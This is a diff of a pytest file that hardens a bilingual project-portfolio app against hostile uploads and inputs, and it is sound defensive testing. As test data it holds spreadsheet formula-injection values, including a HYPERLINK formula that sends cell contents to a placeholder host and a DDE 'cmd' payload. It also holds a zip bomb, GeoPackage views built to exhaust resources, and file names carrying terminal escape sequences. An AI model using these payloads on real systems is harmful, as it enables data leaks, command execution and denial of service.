@@ -15,9 +15,13 @@ import functools
 import io
 import json
 import math
+import os
 import re
+import signal
+import socket
 import subprocess
 import sys
+import time
 import unicodedata
 import zipfile
 from collections.abc import Callable
@@ -36,11 +40,12 @@ import portfolio.readers as readers_module
 import portfolio.register as register_module
 import portfolio.rules as rules_module
 import portfolio.stores.files as files_store_module
-from portfolio import RegisterError, UploadError, schema
+from portfolio import RegisterError, UploadError, bounded, schema
 from portfolio.cli import main
 from portfolio.register import load
 from portfolio.upload import MAX_UPLOAD_BYTES, read_upload
 from portfolio.validate import validate
+from tests import hostile
 from tests.conftest import (
     FIXTURE_BOUNDARY,
     ROOT,
@@ -274,6 +279,21 @@ CORPUS: list[Bad] = [
         rows=rows_with(name_en='=HYPERLINK("http://evil.example/?"&A1,"Đường 923")')),
     Bad("formula-at-sum", nothing, "formula", "register", R2, "notes", rows=rows_with(1,
         notes="@SUM(1+1)*cmd|' /C calc'!A0")),
+    # issue 11: one rule for validation and export (portfolio._formula)
+    *(Bad(f"formula-{label}", nothing, "formula", "register", R1, column, rows=rows_with(**{column: value}),
+          also=("whitespace",))
+      for label, column, value in (
+          ("no-break-space-equals", "name_en", "\u00a0=HYPERLINK(\"http://evil.example\")"),
+          ("space-equals", "name_en", " =1+1"),
+          ("ideographic-space-minus", "location_vi", "\u3000-2+3"),
+          ("fullwidth-equals", "name_en", "＝HYPERLINK(\"http://evil.example\")"),
+          ("fullwidth-plus", "owner", "＋84 292 3820 123"),
+          ("fullwidth-minus", "location_vi", "－1+1"),
+          ("fullwidth-at", "notes", "＠SUM(A1:A9)"),
+          ("semicolon-equals", "notes", "Xem thêm; =HYPERLINK(\"http://evil.example\")"),
+          ("comma-equals", "location_vi", "Ninh Kiều,=1+1"),
+          ("semicolon-fullwidth-equals", "notes", "ghi chú;　＝1+1"),
+      )),
     Bad("date-dd-mm-yyyy", nothing, "bad_date", "register", R1, "status_as_of",
         rows=rows_with(status_as_of="01/10/2021")),
     Bad("decimal-comma", nothing, "bad_number", "register", R2, "official_area_ha",
@@ -996,3 +1016,477 @@ def test_unlookable_paths_in_a_real_process(make_register: MakeRegister, tmp_pat
                                 text=True, cwd=ROOT, timeout=300)
         assert result.returncode == 1, result.stderr
         assert "Traceback" not in result.stderr and result.stderr.splitlines()[0].endswith("[unreadable]")
+
+
+# --- hostile uploads (issue 11): refused fast, in a worker; the server's memory stays small --------
+
+HOSTILE_UPLOADS: list[tuple[str, Callable[[Path], Path], str]] = [
+    ("gpkg-view-recursive-cte", lambda d: hostile.gpkg_with_view(d / "forever.gpkg", hostile.FOREVER_VIEW),
+     "unsafe_geopackage"),
+    ("gpkg-view-gigabytes", lambda d: hostile.gpkg_with_view(d / "gigabytes.gpkg", hostile.GIGABYTES_VIEW),
+     "unsafe_geopackage"),
+    ("gpkg-own-trigger", lambda d: hostile.gpkg_with_sql(
+        d / "trigger.gpkg", "CREATE TRIGGER t AFTER INSERT ON base BEGIN SELECT 1; END"),
+     "unsafe_geopackage"),
+    ("gpkg-virtual-table", lambda d: hostile.gpkg_with_sql(
+        d / "virtual.gpkg", "CREATE VIRTUAL TABLE words USING fts5(w)"), "unsafe_geopackage"),
+    ("gpkg-layer-not-a-table", lambda d: hostile.gpkg_with_sql(
+        d / "ghost.gpkg", "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) "
+                          "VALUES ('ghost', 'features', 'ghost', 4326)"), "unsafe_geopackage"),
+    ("geojson-million-points", lambda d: hostile.million_points_geojson(d / "points.geojson"),
+     "too_many_vertices"),
+    ("zip-bomb-600-mb", lambda d: hostile.zip_bomb(d / "bomb.zip"), "zip_bomb"),
+]
+
+
+@pytest.fixture(scope="module")
+def hostile_files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
+    folder = tmp_path_factory.mktemp("hostile")
+    return {label: make(folder) for label, make, _ in HOSTILE_UPLOADS}
+
+
+def test_hostile_uploads_are_refused_fast_and_the_server_stays_small(hostile_files: dict[str, Path]) -> None:
+    """Each file read as the app reads it (``read_upload_for_view``) in a fresh server process: the
+    rule expected, within 30 s each, and the server's peak memory grows by less than 250 MB (the
+    million-point GeoJSON alone took 1.07 GB, a GeoPackage view 3.8 GB, before issue 11)."""
+    paths = [hostile_files[label] for label, _, _ in HOSTILE_UPLOADS]
+    results, before, after = hostile.probe("portfolio.upload:read_upload_for_view", paths)
+    for (label, _, rule), result in zip(HOSTILE_UPLOADS, results, strict=True):
+        assert result.rule == rule, (label, result)
+        assert result.seconds < 30, (label, result.seconds)
+    assert after - before < 250 * 2**20, (before, after)
+    print(f"\nhostile uploads: {[(r.name, r.rule, round(r.seconds, 2)) for r in results]}; "
+          f"server peak RSS {before / 2**20:.0f} MiB after imports, {after / 2**20:.0f} MiB after all")
+
+
+@pytest.mark.parametrize(("label", "make", "rule"), HOSTILE_UPLOADS, ids=[u[0] for u in HOSTILE_UPLOADS])
+def test_hostile_upload_message(label: str, make: Callable[[Path], Path], rule: str,
+                                hostile_files: dict[str, Path]) -> None:
+    """The one-line message names the file and says what is wrong, in both languages."""
+    from portfolio import i18n
+
+    path = hostile_files[label]
+    with pytest.raises(UploadError) as info:
+        read_upload(path.name, path.read_bytes())
+    (problem,) = info.value.problems
+    assert (problem.rule, problem.file) == (rule, path.name)
+    assert "\n" not in str(info.value) and "/tmp" not in str(info.value)
+    vi, detail = i18n.upload_problem(problem.rule, problem.file, problem.message, "vi")
+    assert vi.startswith(f"{path.name}: ") and vi != f"{path.name}: {problem.message}" and detail
+
+
+@pytest.mark.parametrize(("select", "limits", "limit"), [
+    (hostile.FOREVER_VIEW, bounded.Limits(wall_seconds=60, cpu_seconds=3), "cpu"),
+    (hostile.FOREVER_VIEW, bounded.Limits(wall_seconds=3, cpu_seconds=60), "time"),
+    (hostile.GIGABYTES_VIEW, bounded.LIMITS, "memory"),
+], ids=["cpu", "time", "memory"])
+def test_the_worker_limits_stop_gdal_running_a_hostile_view(select: str, limits: bounded.Limits, limit: str,
+                                                             tmp_path: Path) -> None:
+    """The backstop behind the schema check: GDAL itself, given the view, in a worker, is stopped by
+    the CPU, wall-time or memory limit, and the caller hears which."""
+    import pyogrio
+
+    path = hostile.gpkg_with_view(tmp_path / "evil.gpkg", select)
+    start = time.monotonic()
+    with pytest.raises(bounded.LimitExceeded) as info:
+        bounded.run(pyogrio.read_dataframe, path, "evil", limits=limits)
+    assert info.value.limit == limit
+    assert time.monotonic() - start < 30
+    assert {"cpu": "CPU-seconds", "time": "seconds", "memory": "MiB of memory"}[limit] in str(info.value)
+
+
+def test_a_limit_hit_is_an_upload_error_in_both_languages(tmp_path: Path) -> None:
+    """Every limit rule has its Vietnamese message, and a real limit hit reaches the user as one."""
+    from portfolio import i18n, upload
+
+    for rule in (*upload.LIMIT_RULES.values(), "unsafe_geopackage", "bad_geopackage", "too_many_vertices"):
+        assert rule in i18n.UPLOAD_RULES, rule
+    data = hostile.million_points_geojson(tmp_path / "p.geojson").read_bytes()
+    tight = bounded.Limits(wall_seconds=0.05, cpu_seconds=60)  # no reader finishes in 50 ms
+    with pytest.raises(UploadError) as info:
+        read_upload("p.geojson", data, limits=tight)
+    (problem,) = info.value.problems
+    assert problem.rule == "time_limit" and "0.05 seconds" in problem.message
+    message, _ = i18n.upload_problem(problem.rule, problem.file, problem.message, "vi")
+    assert message == "p.geojson: đọc tệp quá giới hạn thời gian (20 giây) nên đã bị dừng"
+
+
+def test_the_view_keeps_only_the_geometry(tmp_path: Path) -> None:
+    """The session holds the simplified geometry, not the attributes (a 20 MB table of them)."""
+    from portfolio import upload
+
+    ring = [(105.6 + 0.01 * math.cos(a / 100), 10.1 + 0.01 * math.sin(a / 100)) for a in range(629)]
+    frame = gpd.GeoDataFrame({"name": ["x" * 5000], "note": ["y"]},
+                             geometry=[shapely.Polygon(ring)], crs="EPSG:4326")
+    frame.to_file(tmp_path / "zone.geojson", driver="GeoJSON")
+    data = (tmp_path / "zone.geojson").read_bytes()
+    full = read_upload("zone.geojson", data)
+    view = upload.read_upload_for_view("zone.geojson", data)
+    assert list(view.columns) == ["geometry"] and "name" in full.columns
+    assert view.attrs["upload_format"] == "GeoJSON"
+    assert shapely.get_num_coordinates(view.geometry.iloc[0]) < shapely.get_num_coordinates(
+        full.geometry.iloc[0]) / 4  # a 1 m tolerance on a 1.1 km circle of 629 points
+    assert view.geometry.iloc[0].hausdorff_distance(full.geometry.iloc[0]) <= upload.VIEW_TOLERANCE
+
+
+def test_one_upload_limit_for_the_library_and_the_uploader() -> None:
+    """``server.maxUploadSize`` (MB of 10^6 bytes, as Streamlit's uploader counts) is the library's
+    limit, and the app passes the same number to its uploader."""
+    import tomllib
+
+    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
+    assert config["server"]["maxUploadSize"] * 1_000_000 == MAX_UPLOAD_BYTES == 20_000_000
+    assert "max_upload_size=upload.MAX_UPLOAD_BYTES // 1_000_000" in (ROOT / "app.py").read_text("utf-8")
+
+
+# --- formula cells (issue 11): one rule, shared by validation and the CSV export --------------------
+
+FORMULAS = ["=1+1", " =1+1", "\u00a0=HYPERLINK(\"http://evil.example\")", "\u2003+1+1", "\u200b@SUM(A1)",
+            "＝HYPERLINK(\"http://evil.example\")", "＋84 292 3820", "－1+1", "＠SUM(A1:A9)", "\tTab", "\rCR",
+            "-5 km", "Xem thêm; =HYPERLINK(\"http://evil.example\")", "Ninh Kiều,=1+1", "a ;\u00a0＝1",
+            "a;=1;=2"]
+NOT_FORMULAS = ["-5", "+84", "1,5", " -5", "1 = 1", "a; b = c", "Đường tỉnh 923", "x=y", "a; +1", "e-mail"]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_formula_rule(value: str) -> None:
+    from portfolio import _formula
+
+    assert _formula.is_formula(value)
+    assert _formula.SUSPECT_RE.search("plain\n" + value + "\nplain")  # the fast path looks at it
+    safe = _formula.neutralise(value)
+    assert not _formula.is_formula(safe) and safe.replace("'", "") == value.replace("'", "")
+    for piece in re.split("[;,]", safe):  # as a spreadsheet splitting at ';' or ',' sees it
+        assert not piece.lstrip().lstrip("\u200b").startswith(tuple(_formula.STARTS)), (value, piece)
+
+
+@pytest.mark.parametrize("value", NOT_FORMULAS)
+def test_not_a_formula(value: str) -> None:
+    from portfolio import _formula
+
+    assert not _formula.is_formula(value)
+    assert _formula.neutralise(value) == value
+
+
+def test_csv_export_neutralises_what_validation_refuses(make_register: MakeRegister, tmp_path: Path) -> None:
+    """Every value validation calls a formula is exported neutralised; a plain number is not touched."""
+    from portfolio import export
+
+    frame = load(*make_register())
+    values = [*FORMULAS, *NOT_FORMULAS]
+    frame = frame.iloc[[i % len(frame) for i in range(len(values))]].reset_index(drop=True)
+    frame["id"] = [f"p-{i}" for i in range(len(values))]
+    frame["notes"] = values
+    path = export.export(frame, tmp_path / "out.csv", "csv")
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        got = {row["id"]: row["notes"] for row in csv.DictReader(fh)}
+    for index, value in enumerate(values):
+        cell = got[f"p-{index}"]
+        assert cell == (export.neutralise(value) if value in FORMULAS else value)
+        assert (cell != value) == (value in FORMULAS), (value, cell)
+    for value in FORMULAS:  # and validation refuses each one
+        assert rows_module.is_formula(value)
+
+
+# --- signals in the middle of an export (issue 11): real processes, a large synthetic register -----
+
+def _temporaries(folder: Path) -> list[str]:
+    return sorted(p.name for p in folder.iterdir() if p.name.startswith(".portfolio-tmp-"))
+
+
+@pytest.fixture(scope="module")
+def large_register(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
+    sys.path.insert(0, str(ROOT / "benchmarks"))
+    try:
+        import synth
+    finally:
+        sys.path.remove(str(ROOT / "benchmarks"))
+    made = synth.generate(6000, tmp_path_factory.mktemp("large"))
+    return made.register, made.geodata
+
+
+def _export_until_writing(register: Path, geodata: Path, fmt: str, output: Path) -> subprocess.Popen[str]:
+    """Start ``portfolio export`` and return once its temporary file or folder is beside ``output``."""
+    proc = subprocess.Popen([sys.executable, "-m", "portfolio", "export", "--register", str(register),
+                             "--geodata", str(geodata), "-f", fmt, "-o", str(output)],
+                            cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    deadline = time.monotonic() + 300
+    while not _temporaries(output.parent):
+        if proc.poll() is not None or time.monotonic() > deadline:
+            proc.kill()
+            pytest.fail(f"the export ended before writing anything: {proc.communicate()}")
+        time.sleep(0.005)
+    return proc
+
+
+@pytest.mark.parametrize(("fmt", "name", "after"), [
+    ("shp", "out.zip", 0), ("shp", "out.zip", 1.0), ("geojson", "out.geojson", 0.3), ("csv", "out.csv", 0),
+], ids=["shp-at-once", "shp-later", "geojson", "csv"])
+def test_sigterm_during_an_export_cleans_up_like_ctrl_c(fmt: str, name: str, after: float,
+                                                        large_register: tuple[Path, Path],
+                                                        tmp_path: Path) -> None:
+    """SIGTERM as soon as the temporary file exists, or ``after`` seconds into the write."""
+    output = tmp_path / name
+    output.write_bytes(b"the previous export")
+    proc = _export_until_writing(*large_register, fmt, output)
+    time.sleep(after)
+    assert proc.poll() is None, "the export ended before the signal: make the register larger"
+    proc.send_signal(signal.SIGTERM)
+    _, err = proc.communicate(timeout=120)
+    assert proc.returncode == 128 + signal.SIGTERM, err
+    assert "interrupted by SIGTERM" in err and "Traceback" not in err
+    assert _temporaries(tmp_path) == []  # no hidden file, no .portfolio-tmp-PID-shp.* folder
+    assert sorted(p.name for p in tmp_path.iterdir()) == [name]
+    assert output.read_bytes() == b"the previous export"
+
+
+@pytest.mark.parametrize(("fmt", "name"), [("shp", "out.zip"), ("geojson", "out.geojson")])
+def test_what_a_sigkill_leaves_is_removed_by_the_next_export(fmt: str, name: str,
+                                                            large_register: tuple[Path, Path],
+                                                            tmp_path: Path) -> None:
+    output = tmp_path / name
+    proc = _export_until_writing(*large_register, fmt, output)
+    proc.kill()
+    proc.communicate(timeout=60)
+    left = _temporaries(tmp_path)
+    assert left and all(n.startswith(f".portfolio-tmp-{proc.pid}-") for n in left), left
+    # The next run (a quick one: the search keeps no project) removes them and says so.
+    register, geodata = large_register
+    result = subprocess.run([sys.executable, "-m", "portfolio", "export", "--register", str(register),
+                             "--geodata", str(geodata), "-f", fmt, "-o", str(output),
+                             "--search", "no such project at all"],
+                            cwd=ROOT, capture_output=True, text=True, timeout=300)
+    assert result.returncode == 0, result.stderr
+    for entry in left:
+        assert f"removed {tmp_path / entry} (" in result.stderr and f"process {proc.pid}" in result.stderr
+    assert _temporaries(tmp_path) == [] and output.exists()
+
+
+def test_a_live_process_s_temporary_file_is_not_removed(tmp_path: Path) -> None:
+    """Only the files of a process that is gone are removed: a running export's stay."""
+    from portfolio import _files
+
+    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
+    try:
+        alive = tmp_path / f".portfolio-tmp-{sleeper.pid}-out.csv.abc.csv"
+        alive.write_text("in progress")
+        mine = tmp_path / f"{_files.temp_prefix('x')}abc"
+        mine.mkdir()
+        assert _files.remove_stale(tmp_path) == [] and alive.exists() and mine.exists()
+    finally:
+        sleeper.kill()
+        sleeper.wait()
+    assert _files.remove_stale(tmp_path) == [alive] and not alive.exists() and mine.exists()
+
+
+# --- inputs that are not regular files, and control characters in names (issue 11) ----------------
+
+def _fifo(path: Path) -> None:
+    path.unlink(missing_ok=True)
+    os.mkfifo(path)
+
+
+def _socket(path: Path) -> socket.socket:
+    path.unlink(missing_ok=True)
+    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    sock.bind(str(path))
+    return sock
+
+
+@pytest.mark.parametrize(("label", "which", "kind"), [
+    ("register-fifo", "register", "a named pipe (fifo)"),
+    ("geodata-fifo", "projects.geojson", "a named pipe (fifo)"),
+    ("boundary-fifo", "city_boundary.geojson", "a named pipe (fifo)"),
+    ("register-socket", "register", "a socket"),
+    ("register-device", "/dev/zero", "a character device"),
+], ids=lambda v: v if isinstance(v, str) and "-" in v else "")
+def test_inputs_that_are_not_regular_files_are_refused(label: str, which: str, kind: str,
+                                                       make_register: MakeRegister) -> None:
+    """Before issue 11 a fifo hung the CLI forever (the open waited for a writer); /dev/zero was read."""
+    reg, geo = make_register()
+    sockets = []
+    named = reg if which in ("register", "/dev/zero") else geo / which
+    if which == "/dev/zero":
+        reg = named = Path("/dev/zero")
+    elif "socket" in label:
+        sockets.append(_socket(named))
+    else:
+        _fifo(named)
+    try:
+        problems = validate(reg, geo)
+        assert any(p.file == str(named) and p.rule == "unreadable"
+                   and p.message.endswith(f"path is {kind}, not a regular file") for p in problems), problems
+        with pytest.raises(RegisterError):
+            load(reg, geo)
+        result = subprocess.run([sys.executable, "-m", "portfolio", "validate", "--register", str(reg),
+                                 "--geodata", str(geo)],
+                                cwd=ROOT, capture_output=True, text=True, timeout=120)
+        assert result.returncode == 1 and f"{named}: " in result.stderr and kind in result.stderr
+        assert "Traceback" not in result.stderr
+    finally:
+        for sock in sockets:
+            sock.close()
+
+
+def test_a_fifo_swapped_in_after_the_check_does_not_hang(tmp_path: Path,
+                                                         monkeypatch: pytest.MonkeyPatch) -> None:
+    """The race between the stat and the open: the open does not wait (O_NONBLOCK) and the file it
+    opened is checked again (fstat)."""
+    import threading
+
+    from portfolio import _files
+    from portfolio._errors import InputError
+
+    regular = tmp_path / "regular.csv"
+    regular.write_text("id\n")
+    fifo = tmp_path / "swapped.csv"
+    _fifo(fifo)
+    real_stat = Path.stat
+    monkeypatch.setattr(Path, "stat",  # the check sees a regular file; the open finds the fifo
+                        lambda self, *a, **k: real_stat(regular if self == fifo else self, *a, **k))
+    outcome: list[BaseException] = []
+
+    def read() -> None:
+        try:
+            _files.read_text(fifo, kind="register")
+        except BaseException as exc:  # noqa: BLE001 - what the reader raised is the result
+            outcome.append(exc)
+
+    thread = threading.Thread(target=read, daemon=True)
+    thread.start()
+    thread.join(30)
+    assert not thread.is_alive(), "the reader hangs on a fifo"
+    (error,) = outcome
+    assert isinstance(error, InputError) and "a named pipe (fifo), not a regular file" in str(error)
+
+
+@pytest.mark.parametrize(("name", "shown"), [
+    ("out\n.geojson", "out\\n.geojson"), ("\x1b]0;pwned\x07.geojson", "\\x1b]0;pwned\\x07.geojson"),
+    ("\x1b[2Jclear.geojson", "\\x1b[2Jclear.geojson"), ("tab\t.geojson", "tab\\t.geojson"),
+    ("rtl\u202egeojson.exe.geojson", "rtl\\u202egeojson.exe.geojson"),
+])
+def test_an_output_name_with_a_control_character_is_refused(name: str, shown: str,
+                                                            make_register: MakeRegister,
+                                                            tmp_path: Path) -> None:
+    reg, geo = make_register()
+    out = tmp_path / "out"
+    out.mkdir()
+    result = subprocess.run([sys.executable, "-m", "portfolio", "export", "--register", str(reg), "--geodata",
+                             str(geo), "-f", "geojson", "-o", str(out / name)], cwd=ROOT, capture_output=True,
+                            text=True, timeout=120)
+    assert result.returncode == 2, result.stderr
+    assert f"{out}/{shown}: the name holds the control character" in result.stderr
+    assert "\x1b" not in result.stderr and "\x07" not in result.stderr and "\u202e" not in result.stderr
+    assert list(out.iterdir()) == []
+
+
+def test_no_message_prints_raw_terminal_codes(make_register: MakeRegister, tmp_path: Path) -> None:
+    """A path holding escape sequences is shown with them written visibly, in every message."""
+    reg, geo = make_register()
+    evil = tmp_path / "\x1b[31mred\x1b]0;title\x07\r.csv"
+    for args in (["validate", "--register", str(evil), "--geodata", str(geo)],
+                 ["list", "--register", str(evil), "--geodata", str(geo)],
+                 ["list", "--register", str(reg), "--geodata", str(geo), "--status", "\x1b[2J"]):
+        result = subprocess.run([sys.executable, "-m", "portfolio", *args], cwd=ROOT, capture_output=True,
+                                text=True, timeout=120)
+        assert result.returncode in (1, 2), result.stderr
+        assert not re.search("[\x00-\x08\x0b-\x1f\x7f]", result.stderr + result.stdout), result.stderr
+        assert "\\x1b[" in result.stderr
+
+
+# --- the app's own address parameters and over-long addresses (issue 11): no silent drop ------------
+
+from streamlit.testing.v1 import AppTest  # noqa: E402 - the app's cases only
+
+from tests.test_app import app_env, counter, param  # noqa: E402, F401 - fixture and helpers of the app tests
+
+
+def _app(params: dict[str, str | list[str]]) -> AppTest:
+    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
+    for key, value in params.items():
+        at.query_params[key] = value
+    at.run()
+    assert not at.exception, at.exception
+    return at
+
+
+def _unescape(markdown: str) -> str:
+    return re.sub(r"\\(.)", r"\1", markdown)
+
+
+@pytest.mark.parametrize(("params", "vi", "en"), [
+    ({"lang": "fr"}, "ngôn ngữ (lang): không có giá trị 'fr'", "unknown lang 'fr'; allowed values: vi, en"),
+    ({"view": "map"}, "chế độ xem (view): không có giá trị 'map'",
+     "unknown view 'map'; allowed values: table, timeline, investors, export"),
+    ({"sel": "no-such-id"}, "dự án được chọn (sel): không có dự án nào mã 'no-such-id'",
+     "sel: no project has the id 'no-such-id'"),
+    ({"links": "yes"}, "đường nối (links): không có giá trị 'yes'",
+     "unknown links 'yes'; allowed values: 0, 1"),
+    ({"view": ["timeline", "export"]}, "chế độ xem (view): có 2 lần", "view: given 2 times; give it once"),
+], ids=["lang", "view", "sel", "links", "view-twice"])
+@pytest.mark.usefixtures("app_env")
+def test_a_wrong_page_parameter_is_dropped_with_a_warning(params: dict[str, Any], vi: str, en: str) -> None:
+    """README: "A wrong value in a hand-written address is dropped with a warning naming it, in the
+    page language; the valid ones are kept." Before issue 11 these four were dropped silently."""
+    # A wrong lang leaves the page in the default language, Vietnamese.
+    for lang, expected in (("vi", vi),) if "lang" in params else (("vi", vi), ("en", en)):
+        at = _app({"lang": lang, **params, "status": "operating"})
+        warnings = [_unescape(w.value) for w in at.warning]
+        assert any(expected in w for w in warnings), warnings
+        assert param(at, "status") == ["operating"]  # the valid filter is kept
+        assert counter(at).startswith("3 ")
+
+
+@pytest.mark.usefixtures("app_env")
+def test_the_dropped_values_fall_back_to_the_defaults() -> None:
+    at = _app({"lang": "en", "view": "nope", "sel": "ghost", "links": "2"})
+    assert at.session_state["view"] == "table" and at.session_state["sel"] is None
+    assert at.session_state["_draw_links"] is False
+    (warning,) = at.warning
+    assert all(word in _unescape(warning.value) for word in ("'nope'", "'ghost'", "'2'"))
+    assert not _app({"lang": "en", "view": "timeline", "sel": "evil", "links": "1"}).warning
+
+
+@pytest.mark.usefixtures("app_env")
+def test_an_address_streamlit_ignores_whole_is_reported() -> None:
+    """Over 1,000 parameters Streamlit gives the script no parameter at all (it only logs it): the page
+    asks the browser, which still has the address, and the browser draws the warning."""
+    from streamlit.runtime.state import query_params as streamlit_params
+
+    from portfolio import address, i18n
+
+    assert address.MAX_FIELDS == streamlit_params.CLIENT_STATE_QUERY_STRING_MAX_FIELDS
+    assert address.MAX_LENGTH == streamlit_params.CLIENT_STATE_QUERY_STRING_MAX_LENGTH
+    query = "&".join(["status=operating"] * 1001)
+    assert address.dropped_address(query) == 1001 and address.dropped_address("status=operating") is None
+    assert address.dropped_address("search=" + "x" * address.MAX_LENGTH) == 1
+    at = _app({"status": ["operating"] * 1001})
+    assert counter(at).startswith("8 ")  # Streamlit dropped every filter
+    (frame,) = at.get("iframe")
+    script = frame.proto.srcdoc
+    for lang in i18n.LANGS:
+        assert json.dumps(i18n.t("address_dropped", lang)) in script
+    assert '"fields": 1000' in script and "top.location.search" in script and "textContent" in script
+    assert not _app({"status": "operating"}).get("iframe")  # an address that arrived needs no check
+
+
+def test_the_browser_shows_the_warning_for_an_address_of_1001_parameters(tmp_path: Path) -> None:
+    """The real thing: Streamlit, Chromium, an address of 1,001 parameters."""
+    from tests import test_browser as tb
+
+    tb._require_browser()
+    from playwright.sync_api import sync_playwright
+
+    with tb.run_app(tmp_path) as server, sync_playwright() as p:
+        chromium = p.chromium.launch(executable_path=tb.CHROMIUM, args=["--no-sandbox"])
+        try:
+            page = chromium.new_page()
+            page.goto(server.url + "/?" + "&".join(f"p{i}=x" for i in range(1000)) + "&lang=en")
+            alert = page.locator("#pf-address-dropped")
+            alert.wait_for(timeout=tb.WAIT_MS)
+            assert alert.inner_text().startswith("The page address has 1,001 parameters or is too long")
+            page.goto(server.url + "/?status=operating&lang=en")
+            page.get_by_text("3 of 8 projects").wait_for(timeout=tb.WAIT_MS)
+            assert page.locator("#pf-address-dropped").count() == 0
+        finally:
+            chromium.close()
